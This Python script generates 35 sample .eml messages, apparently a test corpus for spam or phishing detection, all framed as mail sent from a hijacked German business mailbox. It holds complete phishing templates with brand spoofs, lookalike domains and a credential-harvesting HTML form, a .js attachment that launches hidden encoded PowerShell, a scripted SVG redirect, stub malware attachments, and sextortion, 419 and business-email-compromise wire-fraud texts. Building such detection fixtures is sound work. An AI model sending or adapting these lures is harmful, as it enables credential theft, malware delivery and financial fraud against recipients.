"""gen_spam.py - the other half: what a hijacked account of that business
sends (phishing, malware lures, 419, scams, business e-mail compromise, mass
mail). Writes spam/NN_name.eml (see gen_lib.OUT)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from gen_lib import *

D = "alpenglow-outfitters.de"
ACC = "info@%s" % D          # the hijacked mailbox
S = "spam"


def html_mail(m, text, html, cte="quoted-printable"):
    m.set_content(text, charset="utf-8", cte=cte)
    m.add_alternative(html, subtype="html", charset="utf-8", cte=cte)


def html_only(m, html, cte="quoted-printable"):
    m.set_content(html, subtype="html", charset="utf-8", cte=cte)


def plain(m, text, cte="quoted-printable"):
    m.set_content(text, charset="utf-8", cte=cte)


# 01 M365 password expiry, brand in display name, lookalike host
m = base("Microsoft 365 <%s>" % ACC, "anna.berger@%s" % D, "Action Required: Your password expires today", 1)
html_only(m, """<html><body style="font-family:Segoe UI,Arial"><table width="520" style="border:1px solid #ddd"><tr><td style="padding:20px">
<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" width="108">
<h2>Your password expires today</h2><p>The password for anna.berger@alpenglow-outfitters.de expires today, 28/11/2026.</p>
<p>To keep using your current password and avoid losing access to your mailbox, please confirm your password below.</p>
<p><a href="https://login-microsoftonline.com.auth-verify365.xyz/common/oauth2/?e=anna.berger@alpenglow-outfitters.de" style="background:#0067b8;color:#fff;padding:10px 22px;text-decoration:none">Keep current password</a></p>
<p style="font-size:11px;color:#666">Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></td></tr></table></body></html>""")
save(m, S, "01_m365_password_expiry_brand")

# 02 Mailbox quota, "IT Helpdesk", R2/workers hosting
m = base("IT Helpdesk <%s>" % ACC, "undisclosed-recipients:;", "Mailbox storage almost full (98%)", 2)
html_mail(m, "Your mailbox is 98% full. Messages will be held. Release pending messages: https://pub-7f3a9c1e5b2d4a8f.r2.dev/owa/index.html",
          """<html><body><p>Dear user,</p><p>Your mailbox is full (49.2 GB / 50 GB). 17 incoming messages are pending delivery.</p>
<p>Kindly release your pending messages and increase your storage quota before your account is restricted:</p>
<p><a href="https://pub-7f3a9c1e5b2d4a8f.r2.dev/owa/index.html#info@alpenglow-outfitters.de"><b>Release messages &amp; upgrade storage</b></a></p>
<p>Email Administrator</p></body></html>""")
save(m, S, "02_mailbox_quota_r2dev")

# 03 DocuSign brand spoof
m = base("DocuSign Electronic Signature <%s>" % ACC, "buchhaltung@vogel-bergsport.ch", "Please DocuSign: Payment_Advice_INV-2026-11.pdf", 3)
html_only(m, """<html><body style="background:#eaeaea"><table width="640" align="center" style="background:#fff;font-family:Helvetica"><tr><td style="background:#1e4ca1;padding:30px;color:#fff;text-align:center">
<img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" width="116"><br><br>
Alpenglow Outfitters sent you a document to review and sign.<br><br>
<a href="https://docusign-envelope.secure-docs-review.click/Signing/?ti=7f3a9c1e5b2d" style="background:#ffc820;color:#000;padding:12px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr>
<tr><td style="padding:24px">Anna Berger<br>anna.berger@alpenglow-outfitters.de<br><br>Please review and sign the payment advice for November.</td></tr>
<tr><td style="font-size:11px;color:#666;padding:24px">Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</td></tr></table></body></html>""")
save(m, S, "03_docusign_brand_spoof")

# 04 "shared document" from the hijacked person, SharePoint lookalike
m = base("Anna Berger <anna.berger@%s>" % D, "m.vogel@vogel-bergsport.ch", "Anna Berger shared \"Q4 Remittance & Statement\" with you", 2)
html_mail(m, """Anna Berger shared a file with you: Q4 Remittance & Statement.pdf
Open: https://alpenglowoutfitters-my.sharepoint.com.dl-viewer.online/personal/anna/Documents/Q4.pdf
This link will work for anyone.""",
          """<html><body style="font-family:Segoe UI"><div style="max-width:480px;border:1px solid #e1e1e1;padding:24px">
<p><b>Anna Berger</b> shared a file with you</p><p style="font-size:20px">&#128196; Q4 Remittance &amp; Statement.pdf</p>
<p><a href="https://alpenglowoutfitters-my.sharepoint.com.dl-viewer.online/personal/anna/Documents/Q4.pdf" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p>
<p style="font-size:12px;color:#666">This link will work for anyone.</p><p style="font-size:11px;color:#999">Microsoft respects your privacy. To learn more, please read our Privacy Statement.</p></div></body></html>""")
save(m, S, "04_sharepoint_share_lookalike")

# 05 Sparkasse brand, German, link text mismatch
m = base("Sparkasse <%s>" % ACC, "kunde.mueller@gmx.de", "Wichtige Mitteilung zu Ihrem Konto", 4)
html_only(m, """<html><body style="font-family:Arial"><div style="max-width:600px"><div style="background:#ff0000;color:#fff;padding:16px;font-size:22px">Sparkasse</div>
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>aufgrund der neuen PSD2-Richtlinie ist eine Aktualisierung Ihres S-pushTAN-Verfahrens erforderlich. Ihr Online-Banking-Zugang wurde vorübergehend eingeschränkt.</p>
<p>Bitte bestätigen Sie Ihre Daten innerhalb von 48 Stunden unter: <a href="https://sparkasse-kundenservice.de-sicherheitsupdate.info/login">www.sparkasse.de/online-banking</a></p>
<p>Andernfalls wird Ihr Zugang aus Sicherheitsgründen gesperrt.</p><p>Mit freundlichen Grüßen<br>Ihre Sparkasse</p></div></body></html>""")
save(m, S, "05_sparkasse_de_link_mismatch")

# 06 Bank security, IP-literal link, no brand in name
m = base("Online Banking Security <%s>" % ACC, "p.schneider@schneider-it.de", "Unusual sign-in activity detected on your account", 2)
html_mail(m, "We detected unusual activity on your online banking. Verify your identity: http://185.234.72.19/secure/login.php",
          """<html><body><p>Dear Customer,</p><p>We detected unusual sign-in activity on your online banking account from a new device in Lagos, Nigeria.</p>
<p>If this was not you, please verify your identity immediately to avoid account suspension:</p>
<p><a href="http://185.234.72.19/secure/login.php?session=8f7a6b">Verify now</a></p><p>Security Department</p></body></html>""")
save(m, S, "06_bank_ip_literal")

# 07 PayPal-like text/href mismatch with digit lookalike
m = base("Service <%s>" % ACC, "julia.schulz@gmx.de", "Your account has been limited", 3)
html_mail(m, "Your account has been limited. Resolve: https://www.paypal.com/resolutioncenter",
          """<html><body style="font-family:Arial"><img src="https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.svg" width="120">
<p>Hello,</p><p>We noticed some unusual activity and your account has been limited. Please log in to the Resolution Center to restore full access.</p>
<p><a href="https://paypa1-resolution-center.com/webapps/mpp/">https://www.paypal.com/resolutioncenter</a></p><p>Sincerely,<br>PayPal</p></body></html>""")
save(m, S, "07_paypal_digit_lookalike_mismatch")

# 08 DHL customs fee, URL shortener
m = base("DHL Express <%s>" % ACC, "nina.klein@icloud.com", "Ihre Sendung wartet: Zollgebühr 1,99 EUR offen", 1)
html_mail(m, "Ihre Sendung 00340434161094011223 kann nicht zugestellt werden. Zollgebühr: 1,99 EUR. Bezahlen: https://bit.ly/3DhL-zoll",
          """<html><body><div style="background:#ffcc00;padding:12px"><b style="color:#d40511">DHL</b></div>
<p>Ihre Sendung <b>00340434161094011223</b> kann nicht zugestellt werden, da eine Zollgebühr von <b>1,99 EUR</b> offen ist.</p>
<p><a href="https://bit.ly/3DhL-zoll">Zahlung jetzt vornehmen</a></p><p>Ohne Zahlung wird die Sendung nach 3 Tagen an den Absender zurückgeschickt.</p></body></html>""")
save(m, S, "08_dhl_customs_shortener")

# 09 Microsoft lookalike domain, no brand in display name
m = base("Account Team <%s>" % ACC, "tom.keller@%s" % D, "Re: Security verification required", 5)
html_mail(m, "Your sign-in was blocked. Review: https://account.rnicrosoft-security.com/review",
          """<html><body><p>We blocked a sign-in attempt to your account tom.keller@alpenglow-outfitters.de.</p>
<p>Review recent activity: <a href="https://account.rnicrosoft-security.com/review?u=tom.keller">https://account.rnicrosoft-security.com/review</a></p>
<p>Thanks,<br>The Account Team</p></body></html>""")
save(m, S, "09_rnicrosoft_lookalike")

# 10 QR code phishing (quishing), image only, no links
m = base("HR Department <%s>" % ACC, "staff@%s" % D, "Mandatory: 2027 benefits enrolment - MFA re-registration", 3)
m.set_content("Please scan the QR code in the attached notice with your phone camera to re-register your MFA and review the 2027 benefits enrolment. Deadline: Friday.\n\nHR Department\n", charset="utf-8", cte="7bit")
m.add_attachment(PNG * 40, maintype="image", subtype="png", filename="Benefits_2027_QR.png")
save(m, S, "10_quishing_qr_png")

# 11 HTML attachment phishing page
m = base("Anna Berger <anna.berger@%s>" % D, "kreditoren@vogel-bergsport.ch", "Remittance Advice - Payment 28.11.2026", 2)
plain(m, "Hello,\n\nPlease find attached the remittance advice for the payment sent today.\n\nKind regards\nAnna\n")
attach(m, "Remittance_Advice_0419.html", """<html><head><title>Excel Online</title></head><body><script>var e=atob('aHR0cHM6Ly9leGNlbC1vbmxpbmUtdmlld2VyLnN1cHBvcnQvbG9naW4ucGhw');</script>
<form action="https://excel-online-viewer.support/next.php" method="post"><h3>Sign in to view document</h3><input name="email" value="kreditoren@vogel-bergsport.ch"><input type="password" name="pass"><button>View Document</button></form></body></html>""")
save(m, S, "11_html_attachment_login_form")

# 12 Invoice lure, zip with .js
m = base("Buchhaltung <%s>" % ACC, "info@sport-maier.de", "Rechnung Nr. 2026-11-8812 - Zahlungserinnerung", 2)
plain(m, "Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie die Rechnung 2026-11-8812. Bitte begleichen Sie den Betrag umgehend.\n\nMit freundlichen Grüßen\nBuchhaltung\n")
attach(m, "Rechnung_2026-11-8812.zip", zip_bytes([("Rechnung_2026-11-8812.pdf.js", "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -enc SQBFAFgA');")]))
save(m, S, "12_invoice_zip_js")

# 13 ISO attachment
m = base("Orders <%s>" % ACC, "einkauf@bergzeit-handel.at", "Purchase Order PO-77812 / urgent", 4)
plain(m, "Hello,\n\nPlease find attached our new purchase order. Kindly confirm availability and delivery date.\n\nBest regards\nPurchasing\n")
attach(m, "PO-77812.iso", b"\x00" * 32768 + b"CD001" + os.urandom(4000))
save(m, S, "13_purchase_order_iso")

# 14 Macro document
m = base("Anna Berger <anna.berger@%s>" % D, "info@gipfelstuermer-shop.de", "Invoice 84412", 3)
plain(m, "Hi,\n\nattached is invoice 84412. Please enable editing and content to view.\n\nThanks\n")
attach(m, "Invoice_84412.docm", ooxml("docm", macro=True))
save(m, S, "14_invoice_docm_macro")

# 15 Encrypted zip with the password in the body (content invisible)
m = base("Anna Berger <anna.berger@%s>" % D, "info@trail-store.ch", "Re: offene Rechnung", 2)
m["In-Reply-To"] = "<4a1b2c3d@trail-store.ch>"
plain(m, "Hallo,\n\nwie besprochen die Dokumente im Anhang.\nPasswort: 2811\n\nGruß\nAnna\n")
attach(m, "Dokumente_2811.zip", zip_bytes([("Dokumente_2811.exe", b"MZ" + os.urandom(6000))], password="2811"))
save(m, S, "15_encrypted_zip_exe_password_in_body")

# 16 OneNote attachment
m = base("Scanner <%s>" % ACC, "info@outdoor-ecke.de", "Scanned document from MFP-C3004", 5)
plain(m, "Scanned from a Xerox multifunction printer.\nNumber of pages: 2\nAttachment file type: OneNote\n")
attach(m, "Scan_20261128_0931.one", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + os.urandom(8000))
save(m, S, "16_onenote_scan")

# 17 SVG with embedded script
m = base("Voicemail <%s>" % ACC, "anna.berger@%s" % D, "New voicemail from +49 151 2345 8812 (0:47)", 1)
plain(m, "You received a new voicemail message.\n\nFrom: +49 151 2345 8812\nDuration: 0:47\n\nOpen the attached audio message to listen.\n")
attach(m, "VM_0047_Play.svg", """<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location='https://vm-audio-player.online/?e='+atob('YW5uYQ==');]]></script></svg>""")
save(m, S, "17_voicemail_svg_script")

# 18 RAR with exe
m = base("Payments <%s>" % ACC, "kreditoren@vogel-bergsport.ch", "SWIFT copy - payment confirmation", 6)
plain(m, "Dear Sir/Madam,\n\nPlease find attached SWIFT copy of payment for your invoice. Kindly check and confirm.\n\nRegards\nAccounts\n")
attach(m, "SWIFT_Copy_MT103.rar", b"Rar!\x1a\x07\x01\x00" + os.urandom(9000))
save(m, S, "18_swift_copy_rar")

# 19 Classic 419
m = base("Barrister Williams Kofi <%s>" % ACC, "undisclosed-recipients:;", "CONFIDENTIAL BUSINESS PROPOSAL", 8, reply_to="barr.williamskofi@gmail.com")
plain(m, """Dear Friend,

I am Barrister Williams Kofi, the personal attorney to the late Mr. Robert Anderson, a foreign contractor who died with his family in a car accident. He left behind the sum of US$10,500,000.00 (Ten Million Five Hundred Thousand United States Dollars) in a dormant account with a bank here.

Since I have been unable to locate any of his next of kin, I seek your consent to present you as the beneficiary so that the fund can be transferred to your account. We shall share 60/40 percent of the total.

This transaction is 100% risk free. Reply urgently with your full name, address, phone number and occupation.

Regards,
Barrister Williams Kofi
""")
save(m, S, "19_classic_419_barrister")

# 20 UN compensation / ATM card
m = base("United Nations Compensation Unit <%s>" % ACC, "undisclosed-recipients:;", "Your compensation payment of $2.5 Million USD", 9, reply_to="un.compensation.office@outlook.com")
plain(m, """Attention: Beneficiary,

This is to inform you that the United Nations in conjunction with the World Bank has approved your compensation payment of $2,500,000.00 as a scam victim. Your payment has been loaded on an ATM card which will be sent to you by courier.

To receive your ATM card, contact the delivery agent with your full name, home address and mobile number.

Contact: Mr. James Morgan, un.compensation.office@outlook.com
""")
save(m, S, "20_un_compensation_atm_card")

# 21 Crypto investment scam
m = base("Laura Fischer <%s>" % ACC, "kunde.mueller@gmx.de", "How I turned 250 EUR into 18,400 EUR in 6 weeks", 5)
html_mail(m, "Hi, I wanted to share the platform that changed my life. Start with just 250 EUR: https://quantum-ai-trade.site/de/start",
          """<html><body style="font-family:Arial"><p>Hi,</p><p>I know this sounds crazy, but I wanted to share the AI trading platform that changed my life. I started with just 250&nbsp;&euro; and after 6 weeks I had 18.400&nbsp;&euro; in my account. The bot trades Bitcoin and Ethereum automatically, 24/7.</p>
<p>Places for new members in Germany are limited this month.</p><p><a href="https://quantum-ai-trade.site/de/start?ref=laura">Start now with 250 &euro;</a></p><p>Laura</p></body></html>""")
save(m, S, "21_crypto_investment_scam")

# 22 Sextortion
m = base("<%s>" % ACC, "anna.berger@%s" % D, "anna.berger - your account was hacked", 2)
plain(m, """Hello!

I am a hacker who has access to your operating system. I also have full access to your account, as you can see I sent you this email from it.

I have been watching you for a few months now. Your device was infected with my malware while you visited adult websites. I made a video of you and the screen at the same time.

If you want me to delete it, transfer $1450 in Bitcoin to my wallet:
bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh

You have 48 hours after opening this letter. If I do not receive the payment, I will send the video to all your contacts. Do not try to contact the police.
""")
save(m, S, "22_sextortion_bitcoin")

# 23 Pharma
m = base("Pharmacy Online <%s>" % ACC, "undisclosed-recipients:;", "Viagra & Cialis from 0.59 EUR - no prescription needed", 6)
html_mail(m, "Viagra 100mg from 0.59 EUR per pill. Cialis, Levitra. No prescription. Discreet worldwide shipping. https://med-discount-rx.shop/",
          """<html><body><h2 style="color:#1565c0">Men's Health Online Shop</h2><p>Viagra 100mg - from <b>0.59 &euro;</b> per pill<br>Cialis 20mg - from <b>0.99 &euro;</b><br>Levitra - from <b>1.10 &euro;</b></p>
<p>No prescription required &bull; Discreet packaging &bull; Worldwide shipping &bull; Bitcoin accepted</p>
<p><a href="https://med-discount-rx.shop/?aff=8812"><b>ORDER NOW</b></a></p></body></html>""")
save(m, S, "23_pharma_no_prescription")

# 24 Casino
m = base("Lucky Spins Casino <%s>" % ACC, "undisclosed-recipients:;", "\U0001F3B0 Your 500% welcome bonus + 200 free spins are waiting", 7)
html_only(m, """<html><body style="background:#000;color:#fff;text-align:center;font-family:Arial">
<a href="https://luckyspins-casino.bet/reg?promo=WIN500"><img src="https://cdn.luckyspins-casino.bet/mail/banner500.gif" width="600"></a>
<h1 style="color:#ffd700">500% BONUS + 200 FREE SPINS</h1><p>Deposit 20 &euro;, play with 120 &euro;. Instant withdrawals. No KYC.</p>
<p><a href="https://luckyspins-casino.bet/reg?promo=WIN500" style="background:#ffd700;color:#000;padding:14px 30px">CLAIM BONUS</a></p>
<p style="font-size:10px;color:#555">18+ only. Play responsibly.</p></body></html>""")
save(m, S, "24_casino_bonus")

# 25 BEC gift cards
m = base("Stefan Huber <stefan.huber@%s>" % D, "petra.lang@%s" % D, "Quick favour", 1, reply_to="stefan.huber.ceo@gmail.com")
m["X-Mailer"] = "iPhone Mail (22B91)"
plain(m, "Hi Petra,\n\nare you available? I need you to handle a task for me discreetly. I'm in a meeting and can't talk.\n\nSent from my iPhone\n")
save(m, S, "25_bec_are_you_available")

m = base("Stefan Huber <stefan.huber@%s>" % D, "petra.lang@%s" % D, "Re: Quick favour", 0.5, reply_to="stefan.huber.ceo@gmail.com")
plain(m, """Thanks. I need you to purchase Apple gift cards for some clients, 8 cards of 200 EUR each. It's a surprise so keep it between us for now. Buy them at any store nearby, scratch the back and send me clear pictures of the codes by email. I will reimburse you today.

Sent from my iPhone
""")
save(m, S, "26_bec_gift_cards")

# 27 Bank detail change (vendor email compromise)
m = base("Buchhaltung Alpenglow <buchhaltung@%s>" % D, "kreditoren@vogel-bergsport.ch", "Änderung unserer Bankverbindung / change of bank details", 3)
outlook(m, """Sehr geehrte Damen und Herren,

bitte beachten Sie, dass sich unsere Bankverbindung aufgrund einer
Umstellung im Rahmen unserer Jahresprüfung geändert hat. Bitte
aktualisieren Sie Ihre Stammdaten und überweisen Sie die offene Rechnung
INV/2026/00871 (6.482,40 EUR) ab sofort ausschließlich auf das neue Konto:

Kontoinhaber: Alpenglow Outfitters GmbH
IBAN: LT12 3250 0244 1234 5678
BIC: REVOLT21

Die alte Bankverbindung ist nicht mehr gültig. Bitte bestätigen Sie kurz
per E-Mail, sobald die Änderung erfolgt ist.

Mit freundlichen Grüßen
Petra Lang
Buchhaltung""")
save(m, S, "27_bec_bank_details_change")

# 28 CEO wire transfer
m = base("Stefan Huber <stefan.huber@%s>" % D, "petra.lang@%s" % D, "Dringende Überweisung - vertraulich", 2, reply_to="s.huber@alpenglow-outfitters-de.com")
plain(m, """Petra,

wir sind in der Endphase einer vertraulichen Übernahme. Ich brauche heute noch eine Überweisung über 48.750,00 EUR an unsere Anwaltskanzlei. Bitte sprich mit niemandem darüber, bis die Transaktion öffentlich ist.

Empfänger: Meridian Legal Partners Ltd
IBAN: GB33 BUKB 2020 1555 5555 55

Bitte bestätige mir kurz, wenn erledigt. Ich bin den ganzen Tag in Meetings, daher nur per Mail.

Stefan
""")
save(m, S, "28_ceo_fraud_wire_de")

# 29 Payroll diversion
m = base("Tom Keller <tom.keller@%s>" % D, "petra.lang@%s" % D, "Direct deposit update", 4)
plain(m, "Hi Petra,\n\nI changed my bank. Can you please update my direct deposit information before the next payroll? Let me know what you need from me.\n\nThanks,\nTom\n")
save(m, S, "29_payroll_diversion")

# 30 Webmail upgrade phishing targeting the provider's customers, roundcube lookalike
m = base("Webmail Administrator <%s>" % ACC, "undisclosed-recipients:;", "Email account deactivation notice", 3)
html_mail(m, "Your email account will be deactivated. Validate your mailbox: https://webmail-upgrade-2026.weebly.com/",
          """<html><body><p>Dear Email User,</p><p>Your email account will be deactivated within 24 hours because you have not completed the 2026 webmail upgrade.</p>
<p>To keep your account active and avoid losing your messages, please <a href="https://webmail-upgrade-2026.weebly.com/">click here to validate your mailbox</a>.</p>
<p>Failure to verify will result in permanent deletion of your account.</p><p>Webmail Administrator<br>&copy; 2026 Roundcube Webmail</p></body></html>""")
save(m, S, "30_webmail_deactivation")

# 31 Overdue invoice, link to legit file host (OneDrive / Google Drive)
m = base("Anna Berger <anna.berger@%s>" % D, "info@alpin-lorenz.at", "Overdue invoice - please review", 3)
html_mail(m, "Please review the overdue invoice here: https://1drv.ms/u/s!AkZp7f3a9c1e5b2d",
          """<html><body><p>Hello,</p><p>please review the overdue invoice and arrange payment at your earliest convenience:</p>
<p><a href="https://1drv.ms/u/s!AkZp7f3a9c1e5b2d">Invoice_INV-3321.pdf (OneDrive)</a></p><p>Best regards<br>Anna Berger</p></body></html>""")
save(m, S, "31_overdue_invoice_onedrive_link")

# 32 Mass spam from hijacked account: 120 recipients, stock/generic
rcpts = ", ".join("<%s@%s>" % (u, d) for u, d in zip(
    ["info", "office", "kontakt", "sales", "verkauf", "mail", "service", "buero"] * 15,
    ["firma%d-%s.de" % (i, ["bau", "handel", "technik", "immo", "auto"][i % 5]) for i in range(120)]))
m = base("Investor Relations <%s>" % ACC, rcpts, "Nächste Kursrakete? NXPR steigt +340%", 6)
plain(m, """Sehr geehrte Investoren,

NexPower Resources (WKN A3DX7K) steht vor dem Durchbruch: Lithium-Fund in Nevada
bestätigt! Analysten erwarten ein Kursziel von 4,80 EUR (aktuell 0,38 EUR).

Jetzt einsteigen, bevor die breite Masse davon erfährt!

Disclaimer: Dies ist keine Anlageberatung.
""")
save(m, S, "32_mass_120_rcpt_penny_stock")

# 33 Fake invoice with LNK inside zip, German business-like, via Roundcube
m = base("Anna Berger <anna.berger@%s>" % D, "buchhaltung@huettenzauber.it", "AW: Auftragsbestätigung 30212", 2)
roundcube(m, "Hallo,\n\nanbei die korrigierte Auftragsbestätigung.\n\nViele Grüße\nAnna Berger\n")
attach(m, "AB_30212_korrigiert.zip", zip_bytes([("AB_30212_korrigiert.pdf.lnk", b"L\x00\x00\x00" + os.urandom(2000))]))
save(m, S, "33_roundcube_reply_zip_lnk")

# 34 Fake Apple ID / iCloud in German via PHPMailer from compromised WP
m = base("Apple <wordpress@%s>" % D, "nina.klein@icloud.com", "Ihre Apple-ID wurde aus Sicherheitsgründen gesperrt", 3)
phpmailer(m, "Ihre Apple-ID wurde gesperrt. Entsperren: https://appleid-apple-com.sicherheit-check.de/",
          """<html><body style="font-family:-apple-system,Helvetica"><p>Sehr geehrter Kunde,</p>
<p>Ihre Apple-ID wurde aus Sicherheitsgründen gesperrt, da wir ungewöhnliche Aktivitäten festgestellt haben.</p>
<p><a href="https://appleid-apple-com.sicherheit-check.de/">Jetzt entsperren</a></p><p>Ihr Apple Support</p></body></html>""")
save(m, S, "34_apple_id_de_wordpress")
print("spam done")

# 35 plain invoice lure with a bare .exe attachment (no double extension)
m = base("Anna Berger <anna.berger@%s>" % D, "info@sport-haas.at", "Rechnung 2026-1142", 1)
plain(m, "Guten Tag,\n\nanbei die Rechnung 2026-1142.\n\nMit freundlichen Grüßen\nAnna Berger\n")
attach(m, "Rechnung_2026-1142.exe", b"MZ\x90\x00" + os.urandom(8000))
save(m, S, "35_invoice_bare_exe")
print("spam 35 done")
